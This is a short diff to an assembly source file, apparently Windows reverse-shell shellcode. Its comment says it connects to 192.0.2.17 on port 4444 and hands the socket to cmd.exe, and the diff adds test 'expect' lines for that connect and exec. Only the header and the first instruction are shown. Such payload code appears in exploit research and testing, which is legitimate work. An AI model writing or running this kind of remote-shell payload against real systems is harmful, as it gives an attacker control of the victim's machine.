@@ -1,5 +1,7 @@
 ; SPDX-License-Identifier: GPL-2.0-or-later
 ; A shell that calls 192.0.2.17, port 4444: a socket made the standard handles of cmd.
+; expect: connect 192.0.2.17 4444
+; expect: exec C:\Windows\System32\cmd.exe cmd
 bits 32
 %include "find32.inc"
 	push dword 0x3233
